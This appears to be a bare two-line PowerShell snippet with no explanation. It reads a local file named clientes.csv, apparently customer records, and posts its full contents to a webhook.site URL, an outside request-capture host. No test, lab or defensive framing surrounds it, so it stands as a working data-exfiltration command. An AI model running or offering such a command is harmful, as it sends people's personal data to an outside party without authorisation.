$body = Get-Content -Raw C:\dados\clientes.csv
Invoke-RestMethod -Uri "https://webhook.site/0a1b2c" -Method Post -Body $body
